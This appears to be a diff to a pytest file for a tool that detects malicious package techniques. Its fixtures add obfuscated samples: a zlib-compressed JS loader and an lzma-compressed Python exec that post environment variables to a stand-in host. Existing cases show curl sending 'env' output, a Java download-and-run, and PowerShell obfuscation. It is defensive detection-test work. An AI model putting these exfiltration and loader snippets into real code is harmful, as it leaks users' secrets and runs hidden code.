@@ -1,6 +1,8 @@
 """Classes of technique that somebody else's simulants were missed for: each in a form of its own."""
 
 import base64
+import lzma
+import zlib
 
 import pytest
 from reading import package, seen, short
@@ -55,6 +57,9 @@ def test_what_was_missed_is_told(path: str, code: str, expected: str) -> None:
 
 
 ENCODED = base64.b64encode(b'echo hi there; curl -s https://a.b.c/d -d "$(env)"').decode()
+DEFLATED = base64.b64encode(zlib.compress(SENDS.encode())).decode()
+PYTHON = b"import os, requests\nrequests.post('https://a.b.c', json=dict(os.environ))"
+SMALL = lzma.compress(PYTHON, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": 6}]).hex()
 ACTION = f"""runs:
   using: composite
   steps:
@@ -71,6 +76,8 @@ LATER = [
     ("x.ps1", ".($env:ComSpec[4,24,25] -join '') 'Start-Process b'", "process.exec b"),
     ("X.java", 'class X { static { Path p = Files.createTempFile("a", "b"); try (InputStream in = new URL("http://a.b.c").openStream()) { Files.copy(in, p); } new ProcessBuilder(p.toString()).start(); } }', RUNS),
     ("action.yml", ACTION, ENV),
+    ("x.js", f"require('zlib').inflate(Buffer.from('{DEFLATED}', 'base64'), (e, out) => new (require('module'))('x')._compile(out.toString(), 'x'))", ENV),
+    ("x.py", f"from lzma import *\nfrom binascii import *\nexec(decompress(a2b_hex('{SMALL}'), format=FORMAT_RAW))", ENV),
 ]  # fmt: skip
 
 
